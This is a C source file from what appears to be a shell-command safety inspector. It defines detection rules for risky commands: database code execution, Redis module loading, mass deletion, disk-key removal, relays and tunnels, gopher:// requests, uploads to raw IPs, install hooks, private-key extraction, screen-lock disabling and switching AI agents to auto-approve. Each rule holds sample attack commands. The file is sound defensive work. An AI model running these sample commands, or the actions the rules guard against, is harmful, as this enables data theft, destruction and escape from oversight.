/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What lies below files and programs: keys of disks, layers over the system, relays between networks, what databases
 * run and whom they let in, what a build runs by itself, permissions that the system keeps.
 */
#include "inspect/shell/net.h"
#include "inspect/shell/rule.h"

#include "base/str.h"

#include <string.h>

#define ROW(type_, confidence_, level_)                                                            \
	.type = FINDING_##type_, .level = THREAT_##level_, .confidence = (confidence_)

/* How far a command's company is looked for. */
enum { BELOW_NEAR = 64 };

static bool below_says_any(const struct shell_command *c, const char *const *texts, size_t n)
{
	for (size_t i = 0; i < n; i++)
		if (rule_says(c, texts[i]))
			return true;
	return false;
}

#define BELOW_SAYS(c, texts) below_says_any(c, texts, sizeof(texts) / sizeof((texts)[0]))

/* Statements that make a database run code, write files, stop, or let somebody in. */
static bool below_sql(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const texts[] = {" soname ",
					    "plpython",
					    "plperlu",
					    "language c",
					    "alter system",
					    "set global ",
					    "lo_export(",
					    "lo_import(",
					    "pg_read_binary_file",
					    "pg_ls_dir(",
					    "xp_cmdshell",
					    "sp_oacreate",
					    "utl_http",
					    "dbms_scheduler",
					    "sys_exec",
					    "pg_terminate_backend",
					    "into dumpfile",
					    "load data infile '/",
					    "attach database '/"};

	(void)m;
	if (BELOW_SAYS(c, texts))
		return true;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s, *copy = strcasestr(s, "copy ");

		if (strcasecmp(s, "shutdown") == 0 || strcasecmp(s, "shutdown;") == 0)
			return true;
		if (copy && strcasestr(copy, " to '/"))
			return true;
	}
	return false;
}

static bool below_mongo(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const texts[] = {"createUser(",        "grantRolesToUser(",
					    "updateUser(",        "dropUser(",
					    "shutdownServer(",    "shutdown:",
					    "dropAllUsers",       "fsyncLock(",
					    "changeUserPassword("};

	(void)m;
	return BELOW_SAYS(c, texts);
}

static bool below_redis(const struct shell_model *m, const struct shell_command *c)
{
	const char *a = rule_operand(c, 0), *b = rule_operand(c, 1);

	(void)m;
	if (strcasecmp(a, "module") == 0)
		return strcasecmp(b, "load") == 0;
	if (strcasecmp(a, "debug") == 0)
		return strcasecmp(b, "segfault") == 0 || strcasecmp(b, "sleep") == 0;
	if (strcasecmp(a, "acl") == 0)
		return strcasecmp(b, "setuser") == 0 || strcasecmp(b, "deluser") == 0;
	if (strcasecmp(a, "eval") == 0)
		return rule_says(c, "io.popen") || rule_says(c, "os.execute") ||
		       rule_says(c, "loadlib");
	return strcasecmp(a, "shutdown") == 0 || strcasecmp(a, "replicaof") == 0;
}

/* Every record of a kind, through the code of an application. */
static bool below_records(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const texts[] = {".delete_all", ".destroy_all",    ".all().delete()",
					    ".drop_all(",  "deleteMany({})",  ".remove({})",
					    ".truncate(",  "dropDatabase(",   "::truncate(",
					    "->truncate(", "Repo.delete_all", ".objects.delete("};

	(void)m;
	return BELOW_SAYS(c, texts);
}

/* A request that changes a store of documents as a whole. */
static bool below_documents(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const paths[] = {"/_all/",     "/_cluster/settings", "/_close",
					    "/_shutdown", "/_security/",        "/_delete_by_query",
					    "/*/_"};

	(void)m;
	if (!rule_has(c, "-X|--request|-d|--data|-XPUT|-XPOST|-XDELETE"))
		return false;
	for (size_t i = 1; i < c->n; i++)
		for (size_t k = 0; k < sizeof(paths) / sizeof(paths[0]); k++)
			if (strstr(c->argv[i].s, paths[k]) && !strstr(c->argv[i].s, "_search") &&
			    !strchr(c->argv[i].s, ' '))
				return true;
	return false;
}

static bool below_disk_key(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_is(
		"luksAddKey luksRemoveKey luksChangeKey luksKillSlot luksFormat reencrypt erase",
		rule_operand(c, 0));
}

/* Something put over a directory of the system. */
static bool below_covers(const struct shell_model *m, const struct shell_command *c)
{
	return rule_says(c, "lowerdir=") && c->n > 1 &&
	       (rule_place(m, c, &c->argv[c->n - 1]) & (PLACE(TOP) | PLACE(SYSTEM) | PLACE(ROOT)));
}

static bool below_repairs(const struct shell_model *m, const struct shell_command *c)
{
	return (rule_operands(m, c) & PLACE(DEVICE)) &&
	       (strcmp(c->name, "resize2fs") != 0 || c->n > 2);
}

static bool below_attribute(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_says(c, "security.capability") || rule_says(c, "security.selinux");
}

static bool below_freezes(const struct shell_model *m, const struct shell_command *c)
{
	return rule_has(c, "-R") &&
	       (rule_operands(m, c) & (PLACE(TOP) | PLACE(ROOT) | PLACE(HOME) | PLACE(SYSTEM)));
}

/* A door of this machine that leads on to another one. */
static bool below_relays(const struct shell_model *m, const struct shell_command *c)
{
	bool listens = false, connects = false;

	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;

		if (strcasestr(s, ":localhost:") || strcasestr(s, ":127."))
			return false;
		listens = listens || (strcasestr(s, "-LISTEN:") && !strcasestr(s, "bind=127"));
		connects = connects || strncasecmp(s, "TCP:", 4) == 0 ||
			   strncasecmp(s, "TCP4:", 5) == 0 || strncasecmp(s, "OPENSSL:", 8) == 0 ||
			   strncasecmp(s, "UDP:", 4) == 0;
	}
	return listens && connects;
}

/* ssh -L 0.0.0.0:…: a tunnel that everybody may use */
static bool below_shares(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++) {
		const char *s = c->argv[i].s;
		const char *value = s[0] == '-' && strchr(s, 'L')   ? strchr(s, 'L') + 1
				    : s[0] == '-' && strchr(s, 'D') ? strchr(s, 'D') + 1
								    : NULL;

		if (value && !*value && i + 1 < c->n)
			value = c->argv[i + 1].s;
		if (value && (str_starts(value, "0.0.0.0:") || str_starts(value, "*:")))
			return true;
	}
	return false;
}

/* Schemes by which any text can be sent to any service. */
static bool below_scheme(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	for (size_t i = 1; i < c->n; i++)
		if (strncasecmp(c->argv[i].s, "gopher://", 9) == 0 ||
		    strncasecmp(c->argv[i].s, "dict://", 7) == 0)
			return true;
	return false;
}

static bool below_is_private(const char *s)
{
	return str_starts(s, "10.") || str_starts(s, "192.168.") || str_starts(s, "127.") ||
	       (str_starts(s, "172.") && s[4] >= '1' && s[4] <= '3' && s[5] != '.');
}

/* A file or what is not known, to a public host that has only a number. */
static bool below_to_number(const struct shell_model *m, const struct shell_command *c)
{
	bool is_number = false;

	if (rule_is("nc ncat netcat", c->name) && !c->has_in)
		return false;
	if (rule_is_local(m, c) || !(c->sends & (TAINT_FILE | TAINT_ARCHIVE)))
		return false;
	for (size_t i = 0; i < c->n_hosts; i++) {
		const char *s = c->hosts[i].name;

		is_number = is_number || (strspn(s, "0123456789.") == strlen(s) && strchr(s, '.') &&
					  !below_is_private(s));
	}
	return is_number;
}

/* A step that runs by itself whenever a package is installed. */
static bool below_install_step(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const steps[] = {"scripts.preinstall", "scripts.postinstall",
					    "scripts.install", "scripts.prepare",
					    "scripts.prepublish"};

	(void)m;
	if (strcmp(c->name, "npm") == 0 || strcmp(c->name, "pnpm") == 0)
		return rule_is("pkg set-script", rule_operand(c, 0)) && BELOW_SAYS(c, steps);
	for (size_t i = 1; i < c->n; i++)
		for (size_t k = 0; k < sizeof(steps) / sizeof(steps[0]); k++) {
			const char *at = strstr(c->argv[i].s, steps[k]);

			if (at && strchr(at, '='))
				return true;
		}
	return false;
}

static bool below_lists_secrets(const struct shell_model *m, const struct shell_command *c)
{
	size_t n = 0;

	for (size_t i = 1; i < c->n; i++)
		n += (rule_place(m, c, &c->argv[i]) & (PLACE(SECRET_DIR) | PLACE(SECRET))) != 0;
	return n >= 2;
}

static bool below_key_out(const struct shell_model *m, const struct shell_command *c)
{
	for (size_t i = 1; i + 1 < c->n; i++)
		if (strcmp(c->argv[i].s, "-in") == 0)
			return rule_place(m, c, &c->argv[i + 1]) & PLACE(SECRET) &&
			       !rule_has(c, "-pubout|-check|-modulus");
	return false;
}

/* Parts that are put together, made a program and run. */
static bool below_assembled(const struct shell_model *m, const struct shell_command *c)
{
	size_t at = (size_t)(c - m->commands);
	const char *s = c->n > 0 ? c->argv[0].s : "";

	if (!str_starts(s, "./") && s[0] != '/')
		return false;
	s += str_starts(s, "./") ? 2 : 0;
	for (size_t i = at > BELOW_NEAR ? at - BELOW_NEAR : 0; i < at; i++) {
		const struct shell_command *d = &m->commands[i];

		if (!(strcmp(d->name, "cat") == 0 && d->n > 2) &&
		    !rule_is("xxd base64 uudecode openssl gunzip zcat xz dd", d->name))
			continue;
		for (size_t k = 0; k < d->n_redirects; k++)
			if (strcmp(d->redirects[k].target.s, s) == 0)
				return true;
	}
	return false;
}

/* What a system lets programs do, kept in a database of its own. */
static bool below_permissions(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return rule_says(c, "TCC.db");
}

static bool below_agent(const struct shell_model *m, const struct shell_command *c)
{
	static const char *const texts[] = {"autoApprove", "auto_approve", "bypass",
					    "dangerously", "sandbox",      "approval",
					    "trusted",     "permissions"};

	(void)m;
	return strcmp(rule_operand(c, 1), "set") == 0 && BELOW_SAYS(c, texts);
}

static bool below_lock(const struct shell_model *m, const struct shell_command *c)
{
	(void)m;
	return (rule_says(c, "askForPassword") && rule_says(c, "0")) ||
	       (rule_says(c, "lock-enabled") && rule_says(c, "false")) ||
	       rule_says(c, "AutomaticCheckEnabled") || rule_says(c, "LSQuarantine");
}

static const struct shell_rule below_rows[] = {
	{.id = "CMD-SQL-DEEP",
	 .reason = "It makes a database run code, touch files of its machine, or stop.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "psql mysql mariadb sqlcmd sqlplus sqlite3 mycli pgcli mssql-cli usql",
	 .test = below_sql,
	 .hit = "mysql -e \"create function x returns int soname 'x.so'\"",
	 .miss = "mysql -e 'select 1'"},
	{.id = "CMD-MONGO-ADMIN",
	 .reason = "It changes who may use a database, or stops it.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "mongosh mongo",
	 .test = below_mongo,
	 .hit = "mongosh --eval 'db.createUser({})'",
	 .miss = "mongosh --eval 'db.users.find()'"},
	{.id = "CMD-REDIS-DEEP",
	 .reason = "It makes a store run code, stop, or follow another one.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "redis-cli valkey-cli keydb-cli",
	 .test = below_redis,
	 .hit = "redis-cli module load ./x.so",
	 .miss = "redis-cli module list"},
	{.id = "CMD-RECORDS-ALL",
	 .reason = "It deletes every record of a kind.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs =
		 "rails rake python python3 manage.py django-admin php artisan node npx ruby mongosh mongo iex mix elixir flask",
	 .test = below_records,
	 .hit = "rails runner 'User.delete_all'",
	 .miss = "rails runner 'User.count'"},
	{.id = "CMD-DOCUMENTS-ALL",
	 .reason = "It changes a store of documents as a whole.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "curl wget http https xh",
	 .test = below_documents,
	 .hit = "curl -X POST es:9200/_all/_close",
	 .miss = "curl -X POST es:9200/logs/_search"},
	{.id = "CMD-DISK-KEY",
	 .reason = "It changes who can open an encrypted disk, or what is on it.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "cryptsetup",
	 .test = below_disk_key,
	 .hit = "cryptsetup luksRemoveKey /dev/sdb1",
	 .miss = "cryptsetup luksDump /dev/sdb1"},
	{.id = "CMD-MAP-REMOVE",
	 .reason = "It takes disks away that the system uses.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "dmsetup",
	 .words = "remove_all|wipe_table|remove",
	 .hit = "dmsetup remove_all",
	 .miss = "dmsetup ls"},
	{.id = "CMD-MOUNT-OVER",
	 .reason = "It puts something else over a directory of the system.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "mount",
	 .test = below_covers,
	 .hit = "mount -t overlay o -o lowerdir=/etc,upperdir=u,workdir=w /etc",
	 .miss = "mount -t overlay o -o lowerdir=a,upperdir=u,workdir=w m"},
	{.id = "CMD-ROOT-SWAP",
	 .reason = "It makes another directory the root of the system.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "pivot_root switch_root",
	 .hit = "pivot_root . old",
	 .miss = "ls old"},
	{.id = "CMD-DISK-REPAIR",
	 .reason = "It changes a file system without asking.",
	 ROW(DANGEROUS_PATTERN, 0.35, LOW),
	 .programs = "fsck e2fsck fsck.ext4 xfs_repair resize2fs",
	 .flags = "-y|-f|-L|-p",
	 .unless = "-n|-N",
	 .test = below_repairs,
	 .hit = "fsck -y /dev/sdb1",
	 .miss = "fsck -n /dev/sdb1"},
	{.id = "CMD-RIGHTS-ATTRIBUTE",
	 .reason = "It gives a file rights by an attribute.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "setfattr",
	 .test = below_attribute,
	 .hit = "setfattr -n security.capability -v x b",
	 .miss = "setfattr -n user.note -v x b"},
	{.id = "CMD-FREEZE",
	 .reason = "It makes a whole tree of the system or of a user unchangeable.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "chattr chflags",
	 .test = below_freezes,
	 .hit = "chattr -R +i /home",
	 .miss = "chattr -R +C images"},
	{.id = "CMD-RELAY",
	 .reason = "It opens a door on this machine that leads on to another one.",
	 ROW(NETWORK_ACCESS, 0.35, LOW),
	 .programs = "socat",
	 .test = below_relays,
	 .hit = "socat TCP-LISTEN:80,fork TCP:192.0.2.1:80",
	 .miss = "socat TCP-LISTEN:80 STDOUT"},
	{.id = "CMD-RELAY-TOOL",
	 .reason = "It opens a door on this machine that leads on to another one.",
	 ROW(NETWORK_ACCESS, 0.35, LOW),
	 .programs = "rinetd redir portfwd dnsspoof dnschef sslh",
	 .unless = "--help|--version|-V",
	 .hit = "rinetd -c r.conf",
	 .miss = "rinetd --version"},
	{.id = "CMD-RELAY-SHARED",
	 .reason = "It opens a tunnel that everybody may use.",
	 ROW(NETWORK_ACCESS, 0.35, LOW),
	 .programs = "ssh autossh",
	 .test = below_shares,
	 .hit = "ssh -NL 0.0.0.0:1:db:1 a.example",
	 .miss = "ssh -NL 1:db:1 a.example"},
	{.id = "CMD-SCHEME-ODD",
	 .reason =
		 "It sends any text to any service by a scheme that nobody uses for anything else.",
	 ROW(NETWORK_ACCESS, 0.4, LOW),
	 .programs = "curl wget python3 lynx",
	 .test = below_scheme,
	 .hit = "curl gopher://192.0.2.1:6379/_x",
	 .miss = "curl http://a.example/x"},
	{.id = "CMD-SEND-NUMBER",
	 .reason = "It sends files to a host that has only a number.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .programs = "curl wget http https nc ncat netcat",
	 .test = below_to_number,
	 .hit = "curl -T notes http://93.184.216.34/",
	 .miss = "curl -T notes http://192.168.1.2/"},
	{.id = "CMD-INSTALL-STEP",
	 .reason = "It adds a step that runs by itself when a package is installed.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "npm pnpm jq sed yq",
	 .test = below_install_step,
	 .hit = "npm pkg set scripts.postinstall='node x'",
	 .miss = "npm pkg set scripts.test='jest'"},
	{.id = "CMD-LIST-SECRETS",
	 .reason = "It looks which credentials there are.",
	 ROW(DATA_LEAK, 0.35, LOW),
	 .programs = "ls find tree stat du",
	 .test = below_lists_secrets,
	 .hit = "ls ~/.ssh ~/.aws",
	 .miss = "ls ~/.ssh"},
	{.id = "CMD-KEY-OUT",
	 .reason = "It takes a private key out of where it is kept.",
	 ROW(DATA_LEAK, 0.4, LOW),
	 .programs = "openssl",
	 .words = "rsa|pkey|ec|pkcs8|pkcs12|dsa",
	 .flags = "-out",
	 .test = below_key_out,
	 .hit = "openssl rsa -in ~/.ssh/id_rsa -out plain",
	 .miss = "openssl rsa -in ~/.ssh/id_rsa -pubout -out pub"},
	{.id = "CMD-RUN-ASSEMBLED",
	 .reason = "It puts a program together from parts and runs it.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .test = below_assembled,
	 .hit = "cat a b > x; chmod +x x; ./x",
	 .miss = "cat a b > x; ./y"},
	{.id = "CMD-MAC-PERMISSIONS",
	 .reason = "It reads or changes what programs are allowed to do.",
	 ROW(DANGEROUS_PATTERN, 0.5, MEDIUM),
	 .programs = "sqlite3 cp mv rm cat",
	 .test = below_permissions,
	 .hit = "sqlite3 TCC.db 'select * from access'",
	 .miss = "sqlite3 app.db 'select * from access'"},
	{.id = "CMD-MAC-PROFILE",
	 .reason = "It installs or removes settings that rule this machine.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "profiles",
	 .words = "install|remove|-I|-R",
	 .hit = "profiles install -path=x.mobileconfig",
	 .miss = "profiles list"},
	{.id = "CMD-SIGNATURE-REMOVE",
	 .reason = "It takes away the signature that vouches for a program.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "codesign signtool osslsigncode",
	 .flags = "--remove-signature",
	 .hit = "codesign --remove-signature X.app",
	 .miss = "codesign -dv X.app"},
	{.id = "CMD-LOCK-OFF",
	 .reason = "It switches off what asks for a password or checks what was downloaded.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "defaults gsettings dconf kwriteconfig5",
	 .test = below_lock,
	 .hit = "defaults write com.apple.screensaver askForPassword -int 0",
	 .miss = "defaults write com.apple.dock autohide -int 0"},
	{.id = "CMD-AGENT-SETTING",
	 .reason = "It changes what an agent may do without asking.",
	 ROW(DANGEROUS_PATTERN, 0.45, MEDIUM),
	 .programs = "claude codex gemini cursor-agent aider copilot opencode goose",
	 .words = "config",
	 .test = below_agent,
	 .hit = "claude config set -g autoApprove true",
	 .miss = "claude config set -g theme dark"},
	{.id = "CMD-RUNNER-JOIN",
	 .reason = "It lets another place decide what this machine runs.",
	 ROW(DANGEROUS_PATTERN, 0.4, LOW),
	 .programs = "gitlab-runner forgejo-runner act_runner buildkite-agent circleci-runner",
	 .words = "register|start",
	 .hit = "gitlab-runner register --url http://a.example",
	 .miss = "gitlab-runner list"},
};

const struct shell_rules shell_rules_below = {below_rows,
					      sizeof(below_rows) / sizeof(below_rows[0])};
